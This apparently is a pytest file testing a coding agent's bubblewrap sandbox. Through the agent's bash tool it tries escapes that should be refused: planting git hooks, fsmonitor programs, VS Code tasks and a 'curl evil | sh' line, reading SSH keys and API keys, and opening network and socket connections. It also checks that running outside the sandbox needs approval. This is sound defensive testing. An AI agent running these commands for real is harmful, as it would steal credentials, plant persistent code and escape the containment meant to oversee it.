"""Issue 41: commands run in the OS sandbox (pico3.Sandbox, bubblewrap).

Real escapes are attempted from inside through the real ``bash`` tool, each refused with a line
the model can act on; allowed work (files, git, the temporary folder) succeeds; nothing a
command starts outlives its call; a sandboxed command interrupted by a worker kill is killed,
whole namespace and all, before the restarted worker reports.
"""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from test_file_safety import call, processes_in
from worker_support import Client, allow, connected, deny, text_of, worker_process, write_script

from chord.context import BACKGROUND
from chord.textual import Notice
from coding_agent.session_files.folders import Session
from coding_agent.settings.config import ConfigError, load_config
from coding_agent.settings.sandbox import sandbox_policy, session_sandbox
from coding_agent.tui.commands.core import sandbox_text
from coding_agent.worker.tools import ToolContext, ToolError
from coding_agent.worker.tools.bash import BASH_TOOL
from pico3 import DomainProxy, Sandbox, SandboxStatus, sandbox_available
from pico3.sandbox_placeholders import lock_file

_STATUS = sandbox_available()
if not _STATUS.available and os.environ.get("CODING_AGENT_REQUIRE_SANDBOX"):  # CI: .ci/run
    raise RuntimeError(f"the sandbox tests need bubblewrap: {_STATUS.reason}")

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(not _STATUS.available, reason=_STATUS.reason),
]


def program(pid: int) -> bytes:
    """The program process ``pid`` runs (its argv[0])."""
    with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
        return cmdline.read().split(b"\0")[0]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-MATERIAL\n")
    (home / ".bashrc").write_text("# the user's\n")
    return home


@pytest.fixture
def env(tmp_path: Path, home: Path) -> dict[str, str]:
    environ = dict(os.environ)
    environ.update(
        HOME=str(home),
        XDG_CONFIG_HOME=str(tmp_path / "config"),
        XDG_STATE_HOME=str(tmp_path / "state"),
    )
    trust = tmp_path / "config" / "coding-agent" / "trust.json"
    trust.parent.mkdir(parents=True)
    trust.write_text('{"version": 1, "projects": {"SECRET-TRUST": true}}')
    return environ


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "README.md").write_text("hello\n")
    return folder


def enforced(folder: Path, env: dict[str, str], tmp_path: Path) -> Sandbox:
    """The enforced sandbox of a session of the test's own working in ``folder``."""
    policy = sandbox_policy(folder, f"test-{os.getpid()}-{tmp_path.name}", env=env)
    found = session_sandbox(policy, env, enforced=True)
    assert isinstance(found, Sandbox), found
    return found


@pytest.fixture
def sandbox(project: Path, env: dict[str, str], tmp_path: Path) -> Sandbox:
    return enforced(project, env, tmp_path)


async def bash(command: str, project: Path, sandbox: Sandbox | None) -> str:
    """The real bash tool's text (a failure's text too)."""
    try:
        result = await BASH_TOOL.handler(
            {"command": command}, ToolContext(project, sandbox=sandbox), None
        )
    except ToolError as error:
        return error.message
    return result.plain_text


async def refused(commands: list[str], cwd: Path, sandbox: Sandbox, run: Any = None) -> None:
    """Each of ``commands`` (through the real ``bash`` tool, or ``run``) gets "Read-only file
    system", and the line saying how to ask to run it outside."""
    for command in commands:
        text = await (run or bash)(command, cwd, sandbox)
        assert "Read-only file system" in text, (command, text)
        assert "[Sandbox: the sandbox refused a write" in text, (command, text)
        assert "outside_sandbox: true" in text, (command, text)


def run_in(env: dict[str, str]) -> Any:
    """``bash`` with the test's ``HOME`` (the tool's environment is this process's)."""
    return lambda command, project, sandbox: bash(
        f"export HOME={env['HOME']}; {command}", project, sandbox
    )


async def test_writes_outside_the_project_are_refused_with_a_line_saying_so(
    project: Path, env: dict[str, str], home: Path, sandbox: Sandbox, tmp_path: Path
) -> None:
    run = run_in(env)
    outside = tmp_path / "outside"
    outside.mkdir()
    (project / "link").symlink_to(outside)
    attempts = [
        "echo evil >> ~/.bashrc",
        "echo evil > link/planted",
        "echo evil > ../outside/planted",
        f"echo evil > /proc/self/root{home}/.bashrc",
    ]
    await refused(attempts, project, sandbox, run)
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert list(outside.iterdir()) == []


async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing(
    tmp_path: Path, env: dict[str, str], processes: Any
) -> None:
    """What makes code run outside later (the list a write or edit asks for): kept read-only
    where it exists; and the folders of it that are missing (this agent's own, which it loads
    code from at its next start in a trusted project, an editor's) cannot be created: an empty
    read-only placeholder lies there while a command runs, and nothing is left after."""
    project = tmp_path / "repo"
    (project / ".vscode").mkdir(parents=True)
    (project / ".claude").mkdir()
    (project / ".envrc").write_text("use flake\n")
    await anyio.run_process(["git", "init", "-q", str(project)])
    found = enforced(project, env, tmp_path)
    attempts = [
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "mkdir -p .coding-agent/facets/evil",
        "mkdir -p .idea && echo '<component/>' > .idea/workspace.xml",
        "echo 'curl evil | sh' >> .envrc",
        "echo '{}' > .vscode/tasks.json",
        "echo 'exec evil' > .git/hooks/pre-commit",
    ]
    await refused(attempts, project, found)
    assert sorted(p.name for p in (project / ".claude").iterdir()) == []
    await processes.ended(processes.holding(lock_file(found.policy.project)))
    assert not (project / ".coding-agent").exists() and not (project / ".idea").exists()
    assert (project / ".envrc").read_text() == "use flake\n"
    # the rest of the project is the command's files and folders; git reads it, and what
    # would write the repository (a commit) is refused, with the way to ask to run it outside
    text = await bash(
        "echo work > notes.txt && mkdir -p src && git status --short && echo ok", project, found
    )
    assert text.split() == ["??", ".envrc", "??", "notes.txt", "ok"], text
    assert (project / "notes.txt").read_text() == "work\n"  # placeholders: nothing to git
    text = await bash(
        "git add -A && git -c user.name=a -c user.email=a@b commit -qm w", project, found
    )
    assert "index.lock': Read-only file system" in text, text
    assert "not its git repository (a commit, checkout or stash runs outside)" in text
    assert "outside_sandbox: true" in text


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        [
            "git",
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b",
            "-c",
            "protocol.file.allow=always",
            *args,
        ],
        cwd=repo,
        check=True,
        capture_output=True,
    )


async def test_no_repository_git_enters_can_be_given_a_configuration_from_inside(
    tmp_path: Path, env: dict[str, str]
) -> None:
    """``git status`` in a superproject runs ``git status`` in each submodule, with that
    submodule's configuration (``core.fsmonitor`` names a program). From inside, a command could
    otherwise have written a submodule's configuration, pointed its ``.git`` file at a
    repository of its own, or made a new repository a submodule by adding it to the index; the
    user's next ``git status`` would then run its program, outside."""
    lib = tmp_path / "lib"
    lib.mkdir()
    _git(lib, "init", "-q", ".")
    (lib / "a.txt").write_text("a\n")
    _git(lib, "add", "a.txt")
    _git(lib, "commit", "-qm", "a")
    project = tmp_path / "repo"
    project.mkdir()
    _git(project, "init", "-q", ".")
    _git(project, "submodule", "add", "-q", str(lib), "lib")
    _git(project, "commit", "-qm", "with a submodule")
    marker = tmp_path / "ran"
    fsmonitor = f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n'"
    found = enforced(project, env, tmp_path)
    attempts = [
        f"{fsmonitor} >> .git/modules/lib/config",
        "echo x > .git/modules/lib/hooks/post-checkout",
        "mkdir evil && cp -r .git/modules/lib/. evil/ && echo 'gitdir: ../evil' > lib/.git",
        "git init -q sub && git -C sub -c user.name=a -c user.email=a@b commit -q "
        f"--allow-empty -m s && {fsmonitor} >> sub/.git/config && git add sub",
    ]
    await refused(attempts, project, found)
    await anyio.run_process(["git", "status"], cwd=project)  # the user's, outside
    assert not marker.exists()
    assert (project / "lib" / ".git").read_text() == "gitdir: ../.git/modules/lib\n"


async def test_a_folder_of_projects_keeps_each_projects_repository_read_only(
    tmp_path: Path, env: dict[str, str]
) -> None:
    """The session runs in a folder of projects (``~/code``: no repository of its own). Each
    project's repository is read-only inside, as the session folder's own would be: git runs
    its configuration when the user works there, and an editor opened on the folder runs
    ``git status`` in each on its own. The projects' files stay the command's to change."""
    code = tmp_path / "code"
    for name in ("api", "web"):
        (code / name).mkdir(parents=True)
        _git(code / name, "init", "-q", ".")
        (code / name / "main.py").write_text("print(1)\n")
    marker = tmp_path / "ran"
    found = enforced(code, env, tmp_path)
    attempts = [
        f"git -C api config core.fsmonitor 'touch {marker}; false'",
        "echo 'touch evil' > web/.git/hooks/pre-commit && chmod +x web/.git/hooks/pre-commit",
    ]
    await refused(attempts, code, found)
    text = await bash("echo 'print(2)' > api/main.py && git -C api status --short", code, found)
    assert text.split() == ["??", "main.py"], text
    assert (code / "api" / "main.py").read_text() == "print(2)\n"
    await anyio.run_process(["git", "status"], cwd=code / "api")  # the user's, outside
    assert not marker.exists()
    assert not (code / "web" / ".git" / "hooks" / "pre-commit").exists()


async def test_what_runs_code_in_the_projects_folders_is_read_only(
    project: Path, sandbox: Sandbox, tmp_path: Path
) -> None:
    """A monorepo: a package's ``.vscode`` (VS Code runs its tasks when the user opens the
    package), a service's ``.claude`` (its hooks run when an agent starts there), a vendored
    clone's repository two folders down (git runs its ``core.fsmonitor``) are read-only
    inside, like the project's own; the files beside them stay the command's to change."""
    web = project / "packages" / "web"
    (web / ".vscode").mkdir(parents=True)
    (web / ".vscode" / "settings.json").write_text("{}\n")
    (web / "index.js").write_text("1\n")
    (project / "services" / "api" / ".claude").mkdir(parents=True)
    lib = project / "vendor" / "lib"
    lib.mkdir(parents=True)
    _git(lib, "init", "-q", ".")
    marker = tmp_path / "ran"
    tasks = '{"tasks": [{"command": "touch ran", "runOptions": {"runOn": "folderOpen"}}]}'
    attempts = [
        f"echo '{tasks}' > packages/web/.vscode/tasks.json",
        "echo '{}' > packages/web/.vscode/settings.json",
        "echo '{\"hooks\": {}}' > services/api/.claude/settings.json",
        f"git -C vendor/lib config core.fsmonitor 'touch {marker}; false'",
    ]
    await refused(attempts, project, sandbox)
    text = await bash("echo 2 > packages/web/index.js && echo ok", project, sandbox)
    assert text.strip() == "ok", text
    assert (web / "index.js").read_text() == "2\n"
    assert not (web / ".vscode" / "tasks.json").exists()
    assert not (project / "services" / "api" / ".claude" / "settings.json").exists()
    await anyio.run_process(["git", "status"], cwd=lib)  # the user's, outside
    assert not marker.exists()
    assert (
        f"  read-only inside, where they are in its folders 2 down: {project}: .mcp.json, "
        ".claude, .coding-agent, .pi, .vscode, .idea, .envrc, .husky, .pre-commit-config.yaml, "
        ".devcontainer, .npmrc, .yarnrc.yml, .yarnrc, .bashrc, .bash_profile, .profile, "
        ".zshrc, .zshenv, .zprofile, .gitconfig, .ssh"
    ) in sandbox.policy.describe()


async def test_what_a_command_plants_in_a_subfolder_is_named_in_its_result(
    project: Path, sandbox: Sandbox
) -> None:
    """A missing ``.vscode`` in a subfolder cannot be kept absent (no placeholder there), so a
    command can make one, or clone a repository: the result names each, with what runs it, and
    from then on they are read-only. An empty folder runs nothing and is not named; a command
    that makes nothing of the kind gets no line."""
    text = await bash(
        "mkdir -p apps/web/.vscode apps/api/.idea && echo '{}' > apps/web/.vscode/tasks.json "
        "&& git init -q vendor/lib && echo made",
        project,
        sandbox,
    )
    lines = text.splitlines()
    assert lines[0] == "made", text
    assert lines[1:] == [
        "[Sandbox: new while the command ran, and run code outside the sandbox: "
        "apps/web/.vscode/ (VS Code runs the tasks, launch configurations and programs named "
        "in .vscode/); vendor/lib/.git/ (git runs the hooks, fsmonitor, filters and other "
        "commands named in .git/ (config, hooks, info/attributes)). Later sandboxed commands "
        "cannot change them; check them before you use them.]"
    ], text
    assert await bash("echo again", project, sandbox) == "again"
    await refused(["echo '{}' > apps/web/.vscode/launch.json"], project, sandbox)


async def test_a_repository_replaced_under_a_renamed_folder_is_named_not_the_moved_one(
    project: Path, sandbox: Sandbox
) -> None:
    """A protected ``.git`` cannot be changed, but the folder holding it can be renamed and a
    new repository made at the old path (``mv vendor/lib vendor/lib_orig && git init -q
    vendor/lib``): the result names the new ``vendor/lib/.git``, not the moved original, and the
    new one's configuration is read-only from then on."""
    lib = project / "vendor" / "lib"
    lib.mkdir(parents=True)
    _git(lib, "init", "-q", ".")
    assert await bash("echo ready", project, sandbox) == "ready"
    text = await bash(
        "mv vendor/lib vendor/lib_orig && git init -q vendor/lib && echo replaced",
        project,
        sandbox,
    )
    assert text.splitlines() == [
        "replaced",
        "[Sandbox: new while the command ran, and run code outside the sandbox: vendor/lib/.git/ "
        "(git runs the hooks, fsmonitor, filters and other commands named in .git/ (config, "
        "hooks, info/attributes)). Later sandboxed commands cannot change them; check them "
        "before you use them.]",
    ], text
    await refused(["git -C vendor/lib config core.fsmonitor 'touch ran; false'"], project, sandbox)


async def test_git_init_in_a_session_folder_inside_a_repository_is_refused(
    tmp_path: Path, env: dict[str, str], processes: Any
) -> None:
    """The session folder is a folder of a repository (``outer/sub``): a ``git init`` there
    would make a repository whose configuration (``core.fsmonitor``) git runs at the user's
    next ``git status`` in their working folder, so an empty read-only ``.git`` lies there
    while a command runs and ``git init`` gets "Read-only file system". git passes over the
    empty folder to the outer repository, inside and outside, and it is gone afterwards."""
    outer = tmp_path / "outer"
    (outer / "sub").mkdir(parents=True)
    _git(outer, "init", "-q", ".")
    (outer / ".gitignore").write_text("*.log\n")
    (outer / "sub" / "a.log").write_text("ignored by the outer repository\n")
    (outer / "sub" / "main.py").write_text("print('hi')\n")
    found = enforced(outer / "sub", env, tmp_path)
    await refused(["git init -q ."], outer / "sub", found)
    # git still finds the outer repository, with its ignore rules
    command = "git rev-parse --show-toplevel && git status --short --untracked-files=all ."
    text = await bash(command, outer / "sub", found)
    assert text.splitlines() == [str(outer), "?? main.py"], text
    await processes.ended(processes.holding(lock_file(found.policy.project)))
    assert not (outer / "sub" / ".git").exists()  # the placeholder went with the command
    status = await anyio.run_process(["git", "-C", str(outer), "status", "--short"])
    assert status.stdout.decode().splitlines() == ["?? .gitignore", "?? sub/"]


async def test_credentials_and_the_agents_files_are_unreadable(
    project: Path, env: dict[str, str], sandbox: Sandbox, tmp_path: Path
) -> None:
    run = run_in(env)
    trust = tmp_path / "config" / "coding-agent" / "trust.json"
    for command in ("cat ~/.ssh/id_rsa", f"cat {trust}", "cat /proc/self/root$HOME/.ssh/id_rsa"):
        text = await run(command, project, sandbox)
        assert "PRIVATE-KEY-MATERIAL" not in text and "SECRET-TRUST" not in text, text
        assert "Command exited with code 1" in text
        assert "is hidden inside the sandbox" in text, (command, text)


async def test_pis_stored_keys_are_unreadable(
    project: Path, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    """pi's ``~/.pi/agent/auth.json`` holds the keys its ``/login`` stored, which the agent
    reads as its providers' keys: hidden as the agent's own files are."""
    env = {k: v for k, v in env.items() if k != "PI_CODING_AGENT_DIR"}  # pi at ~/.pi/agent
    auth = home / ".pi" / "agent" / "auth.json"
    auth.parent.mkdir(parents=True)
    auth.write_text('{"anthropic": {"type": "api_key", "key": "SECRET-PI-KEY"}}')
    auth.chmod(0o600)
    text = await run_in(env)("cat ~/.pi/agent/auth.json", project, enforced(project, env, tmp_path))
    assert "SECRET-PI-KEY" not in text and "is hidden inside the sandbox" in text, text


async def test_pis_models_json_keys_are_unreadable(
    project: Path, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    """pi's ``models.json`` may hold a provider's key itself (``"apiKey": "sk-..."``), which the
    agent uses too: a sandboxed command (run unasked in ``sandbox`` mode) cannot read it."""
    env = {k: v for k, v in env.items() if k != "PI_CODING_AGENT_DIR"}  # pi at ~/.pi/agent
    models = home / ".pi" / "agent" / "models.json"
    models.parent.mkdir(parents=True)
    models.write_text('{"providers": {"my": {"apiKey": "SECRET-PI-MODELS-KEY"}}}')
    text = await run_in(env)("cat ~/.pi/agent/models.json", project,
                             enforced(project, env, tmp_path))  # fmt: skip
    assert "SECRET-PI-MODELS-KEY" not in text and "is hidden inside the sandbox" in text, text


async def test_the_sessions_sockets_are_hidden_so_nothing_runs_outside_through_them(
    project: Path, env: dict[str, str], tmp_path: Path
) -> None:
    """A path socket is reached whatever the network namespace: one in the user's runtime
    folder (the session bus that ``systemd-run --user`` talks to, the warm start's fork
    server) would run code outside the sandbox, so the folder is hidden inside."""
    runtime = Path(tempfile.mkdtemp(prefix="rt"))  # short: a socket path has ~107 bytes
    listener = socket.socket(socket.AF_UNIX)
    try:
        listener.bind(str(runtime / "bus"))
        listener.listen()
        environ = {**env, "XDG_RUNTIME_DIR": str(runtime)}
        policy = sandbox_policy(project, f"test-{os.getpid()}-{tmp_path.name}", env=environ)
        assert str(runtime) in policy.deny_read and f"/run/user/{os.getuid()}" in policy.deny_read
        found = session_sandbox(policy, environ, enforced=True)
        assert isinstance(found, Sandbox), found
        script = f"import socket; socket.socket(socket.AF_UNIX).connect('{runtime}/bus'); print('CONNECTED')"
        connect = f'python3 -c "{script}"'
        outside = await bash(connect, project, None)
        assert "CONNECTED" in outside  # the socket answers outside the sandbox...
        inside = await bash(connect, project, found)
        assert "CONNECTED" not in inside, inside
        listing = await bash(f"ls -A {runtime}; echo listed", project, found)
        assert listing.split() == ["listed"]  # ...and inside, its folder is empty
    finally:
        listener.close()
        shutil.rmtree(runtime, ignore_errors=True)


UNIX_CONNECT = (
    "import socket, sys\n"
    "a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())\n"
    "socket.socket(socket.AF_INET).close(); print('inet')\n"
    "try:\n"
    "    socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print('CONNECTED')\n"
    "except OSError as e:\n"
    "    print('refused:', e.strerror)\n"
)


async def test_no_unix_socket_outside_is_reached_however_it_is_named(
    project: Path, env: dict[str, str], sandbox: Sandbox
) -> None:
    """A socket the hidden folders do not cover (a tmux server's in /tmp, an ssh-agent's, an
    editor's) would take commands from inside: no unix socket is made inside (EPERM, as in
    Claude Code's sandbox), while socket pairs, which connect only to themselves, still work."""
    folder = Path(tempfile.mkdtemp(prefix="tmux-"))  # short: a socket path has ~107 bytes
    listener = socket.socket(socket.AF_UNIX)
    try:
        listener.bind(str(folder / "default"))
        listener.listen()
        script = project / "connect.py"
        script.write_text(UNIX_CONNECT)
        command = f"python3 {script} {folder}/default"
        outside = await bash(command, project, None)
        assert outside.split() == ["pair", "inet", "CONNECTED"]  # it answers outside...
        inside = await bash(command, project, sandbox)
        assert inside.splitlines() == ["pair", "inet", "refused: Operation not permitted"]
        uring = await bash(
            "python3 -c 'import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
            "libc.syscall(425, 8, ctypes.create_string_buffer(120)); "
            "print(os.strerror(ctypes.get_errno()))'",  # io_uring makes sockets by itself
            project,
            sandbox,
        )
        assert uring.strip() == "Operation not permitted", uring
    finally:
        listener.close()
        shutil.rmtree(folder, ignore_errors=True)


def test_a_project_inside_the_runtime_folder_keeps_it_visible(tmp_path: Path) -> None:
    runtime = tmp_path / "runtime"
    project = runtime / "work"
    project.mkdir(parents=True)
    environ = {"HOME": str(tmp_path), "XDG_RUNTIME_DIR": str(runtime)}
    inside = sandbox_policy(project, "s", env=environ)
    assert str(runtime) not in inside.deny_read  # hiding it would hide the project
    elsewhere = sandbox_policy(tmp_path / "other", "s", env=environ)
    assert str(runtime) in elsewhere.deny_read


@pytest.fixture
def loopback_server() -> Iterator[int]:
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    accepted: list[socket.socket] = []

    def serve() -> None:
        try:
            while True:
                accepted.append(server.accept()[0])
        except OSError:
            pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield port
    # close() alone leaves a blocked accept() waiting (the join then took its whole 10 s
    # timeout); shutting the listening socket down wakes it with an error, so the thread ends
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    for conn in accepted:
        conn.close()
    thread.join(timeout=10)


async def test_no_network_no_dns_no_nested_namespaces(
    project: Path, env: dict[str, str], sandbox: Sandbox, loopback_server: int
) -> None:
    run = run_in(env)
    # the server answers outside the sandbox...
    with socket.create_connection(("127.0.0.1", loopback_server), timeout=10):
        pass
    text = await run(f"exec 3<>/dev/tcp/127.0.0.1/{loopback_server}", project, sandbox)
    assert "Connection refused" in text
    assert "[Sandbox: the sandbox has no network" in text
    dns = "python3 -c 'import socket; socket.getaddrinfo(\"example.com\", 443)'"
    text = await run(dns, project, sandbox)
    assert "Temporary failure in name resolution" in text or "Name or service not known" in text
    assert "the sandbox has no network" in text
    text = await run("unshare -r true", project, sandbox)
    assert "unshare failed" in text and "Command exited with code 1" in text
    text = await run("unshare -m true", project, sandbox)
    assert "Operation not permitted" in text and "[Sandbox:" in text


async def test_nothing_a_command_starts_outlives_its_call(
    project: Path, env: dict[str, str], sandbox: Sandbox, processes: Any
) -> None:
    marker = "4242.4242"
    text = await bash(f"sleep {marker} & echo started $!", project, sandbox)
    assert text.startswith("started")

    def left() -> list[int]:
        found = []
        for name in os.listdir("/proc"):
            try:
                if name.isdigit() and marker in Path(f"/proc/{name}/cmdline").read_text():
                    found.append(int(name))
            except OSError:
                continue
        return found

    await processes.ended(left())
    assert left() == []
    # unsandboxed, the same command leaves its process behind (the sandbox is what ends it)
    await bash(f"sleep {marker} & echo started", project, None)
    stray = left()
    assert stray
    for pid in stray:
        os.kill(pid, 9)
    await processes.ended(stray)


async def test_allowed_work_succeeds(
    project: Path, env: dict[str, str], sandbox: Sandbox, processes: Any
) -> None:
    # a project with no git repository (none above it): one cannot be made inside (git would
    # run its configuration at the user's next ``git status``); made outside, git reads it
    if not any((d / ".git").exists() for d in project.parents):
        text = await bash("git init -q . && echo made", project, sandbox)
        assert "Read-only file system" in text and "made" not in text, text
        assert "outside_sandbox: true" in text
        await processes.ended(processes.holding(lock_file(sandbox.policy.project)))
        assert not (project / ".git").exists()
    _git(project, "init", "-q", ".")
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "first")
    command = (
        "git status --short && git log --oneline | wc -l && "
        "printf 'int main(){return 0;}' > t.c && python3 -c 'print(2+2)' && "
        "echo scratch > $TMPDIR/scratch && cat $TMPDIR/scratch && echo $TMPDIR"
    )
    text = await bash(command, project, sandbox)
    lines = text.splitlines()
    assert lines[:3] == ["1", "4", "scratch"], text
    assert lines[3] == sandbox.policy.temp_dir
    assert (project / ".git").is_dir() and (project / "t.c").exists()
    assert (Path(sandbox.policy.temp_dir) / "scratch").read_text() == "scratch\n"
    # the project's code-running files stay read-only inside
    text = await bash("echo evil > .git/hooks/pre-commit", project, sandbox)
    assert "Read-only file system" in text
    assert not (project / ".git" / "hooks" / "pre-commit").exists()


async def test_outside_sandbox_runs_unconfined(
    project: Path, env: dict[str, str], home: Path, sandbox: Sandbox
) -> None:
    args = {"command": f"echo ok >> {home}/.bashrc", "outside_sandbox": True, "reason": "r"}
    result = await BASH_TOOL.handler(args, ToolContext(project, sandbox=sandbox), None)
    assert result.details is not None and result.details["sandboxed"] is False
    assert (home / ".bashrc").read_text().endswith("ok\n")


def test_without_bwrap_on_path_the_sandbox_is_unavailable(
    project: Path, env: dict[str, str], tmp_path: Path
) -> None:
    bare = tmp_path / "bin"
    bare.mkdir()
    hidden = {**env, "PATH": str(bare)}
    found = session_sandbox(sandbox_policy(project, "s", env=hidden), hidden)
    assert isinstance(found, SandboxStatus) and not found.available
    assert "bubblewrap (bwrap) is not on PATH" in found.reason


async def test_a_sandboxed_command_interrupted_by_a_worker_kill_is_killed_with_its_namespace(
    session: Session, agent_env: dict[str, str], tmp_path: Path, processes: Any
) -> None:
    config = tmp_path / "xdg-config"
    (config / "coding-agent").mkdir(parents=True)
    (config / "coding-agent" / "config.toml").write_text("[sandbox]\nenabled = true\n")
    env = {**agent_env, "XDG_CONFIG_HOME": str(config)}
    # the grandchild: started in the background inside, it would outlive a plain process kill
    # (never done by itself: "ran" would mean the kill came too late, whatever the load)
    command = "sleep 5.4321 & echo started; sleep 600; echo ran >> f"
    script = write_script(tmp_path / "script.json", [call("bash", command=command), {"text": "ok"}])

    def live_output() -> str:
        turn = client.view.get("turn") or {}
        return "".join(slot.get("output", "") for slot in turn.get("tools", []))

    client = Client(approve=allow)
    async with (
        worker_process(session, env, "--faux-script", str(script)) as worker,
        connected(client, worker.socket),
    ):
        await client.root.send({"content": "run it"}, BACKGROUND)
        await client.wait_for(lambda: "started" in live_output())
        running = processes_in(session.cwd)
        names = [program(pid) for pid in running]
        assert any(name.endswith(b"bwrap") for name in names), names
        assert len(running) >= 3  # bwrap, its namespace's init, the shell, the sleeps
        await worker.kill()
        await client.wait_for(lambda: client.root_closed)
    # --die-with-parent: the worker's death ends the namespace, every process of it, at once
    await processes.ended(running)
    assert processes_in(session.cwd) == []

    client = Client(approve=allow)
    async with (
        worker_process(session, env, "--faux-script", str(script)) as worker,
        connected(client, worker.socket),
    ):
        await client.wait_for(lambda: bool(client.entries("pi.tool_result")))
        (result,) = client.entries("pi.tool_result")
        text = text_of(result)
        assert text.startswith("Command interrupted by a worker restart after it had started")
        assert "It was no longer running." in text
        others = [pid for pid in processes_in(session.cwd) if pid != worker.process.pid]
        assert others == []
        # the turn's answer, from the view: the restarted worker resumes the turn by itself,
        # so its turn.ended event may come before this client is subscribed to events
        await client.wait_for(
            lambda: [text_of(e) for e in client.entries("pi.assistant")][-1:] == ["ok"]
        )
    assert not (session.cwd / "f").exists()


def test_the_probe_runs_the_real_binary() -> None:
    status = sandbox_available()
    assert status.bwrap is not None and os.path.samefile(status.bwrap, shutil.which("bwrap") or "")
    done = subprocess.run([status.bwrap, "--version"], capture_output=True, text=True, check=True)
    assert "bubblewrap" in done.stdout


def test_sandbox_config_a_project_turns_it_on_but_cannot_widen_it(
    project: Path, env: dict[str, str], tmp_path: Path
) -> None:
    user = tmp_path / "config" / "coding-agent" / "config.toml"
    user.write_text('[sandbox]\ndeny_read = ["~/.kube"]\nallow_write = ["~/.cache/uv"]\n')
    local = project / ".coding-agent" / "config.toml"
    local.parent.mkdir()
    local.write_text('[sandbox]\nenabled = true\ndeny_read = ["~/.pgpass"]\n')
    config = load_config(project, env=env, trusted=True)
    assert config.sandbox_enabled
    assert config.sandbox_deny_read == ["~/.kube", "~/.pgpass"]
    assert config.sandbox_allow_write == ["~/.cache/uv"]
    local.write_text('[sandbox]\nallow_write = ["~"]\n')
    with pytest.raises(ConfigError, match=r"only your own config\.toml may widen the sandbox"):
        load_config(project, env=env, trusted=True)


async def test_sandbox_mode_runs_commands_inside_without_asking_and_asks_to_run_outside(
    session: Session, agent_env: dict[str, str], tmp_path: Path, home: Path
) -> None:
    env = {**agent_env, "HOME": str(home), "XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    script = write_script(
        tmp_path / "script.json",
        [
            call("bash", command="echo built > out.txt && cat out.txt"),
            call("bash", command="echo evil >> ~/.bashrc"),
            call("bash", command="echo net >> ~/.bashrc", outside_sandbox=True, reason="need it"),
            {"text": "done"},
        ],
    )
    client = Client(approve=deny)
    args = ("--faux-script", str(script), "--permission-mode", "sandbox")
    async with worker_process(session, env, *args) as worker, connected(client, worker.socket):
        await client.root.send({"content": "work"}, BACKGROUND)
        await client.wait_for(client.turn_ended)
    texts = [text_of(entry) for entry in client.entries("pi.tool_result")]
    assert texts[0] == "built"
    assert "Read-only file system" in texts[1] and "outside_sandbox: true" in texts[1]
    assert texts[2] == "Tool call blocked: denied by test"
    # one dialog, for the call that asked to run outside; it says so and why
    assert [d.request["name"] for d in client.approvals] == ["bash"]
    reason = client.approvals[0].request.get("reason", "")
    assert "OUTSIDE the sandbox" in reason and "need it" in reason
    assert (session.cwd / "out.txt").read_text() == "built\n"
    assert (home / ".bashrc").read_text() == "# the user's\n"


async def test_sandbox_mode_without_bubblewrap_asks_as_ask_mode_does(
    session: Session, agent_env: dict[str, str], tmp_path: Path, home: Path
) -> None:
    bare = tmp_path / "bin"  # bash only: bwrap is not on this PATH
    bare.mkdir()
    (bare / "bash").symlink_to(shutil.which("bash") or "/bin/bash")
    env = {**agent_env, "HOME": str(home), "PATH": str(bare)}
    script = write_script(
        tmp_path / "script.json",
        [call("bash", command="echo evil >> ~/.bashrc"), {"text": "done"}],
    )
    client = Client(approve=deny)
    args = ("--faux-script", str(script), "--permission-mode", "sandbox")
    async with worker_process(session, env, *args) as worker, connected(client, worker.socket):
        await client.root.send({"content": "work"}, BACKGROUND)
        await client.wait_for(client.turn_ended)
    (dialog,) = client.approvals
    assert "the OS sandbox cannot start here" in dialog.request.get("reason", "")
    assert "blocked: denied" in text_of(client.entries("pi.tool_result")[0])
    assert (home / ".bashrc").read_text() == "# the user's\n"


async def test_a_sandbox_not_enforced_takes_only_the_calls_sent_in(
    project: Path, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    policy = sandbox_policy(project, f"test-{os.getpid()}-{tmp_path.name}", env=env)
    found = session_sandbox(policy, env)
    assert isinstance(found, Sandbox) and not found.enforced
    tools = ToolContext(project, sandbox=found)
    write = f"echo x >> {home}/.bashrc"
    inside = await BASH_TOOL.handler({"command": f"true; {write}"}, tools, None)
    assert inside.details is not None and inside.details["sandboxed"] is False
    with pytest.raises(ToolError, match="Read-only file system"):
        await BASH_TOOL.handler({"command": write, "outside_sandbox": False}, tools, None)
    assert (home / ".bashrc").read_text() == "# the user's\nx\n"


def test_the_sandbox_command_says_what_the_status_says() -> None:
    assert sandbox_text(None) == Notice(
        "The worker has not said anything about the sandbox yet", "warning"
    )
    unavailable = sandbox_text(
        {"sandbox": {"available": False, "reason": "bubblewrap (bwrap) is not on PATH"}}
    )
    assert isinstance(unavailable, Notice) and unavailable.severity == "warning"
    text = unavailable.message
    assert text.startswith("The OS sandbox is unavailable: bubblewrap (bwrap) is not on PATH.")
    assert "asks as ask mode does" in text
    said = sandbox_text(
        {
            "sandbox": {
                "available": True,
                "reason": "bubblewrap (/usr/bin/bwrap)",
                "enforced": False,
                "policy": ["network: none"],
            }
        }
    )
    assert said == (
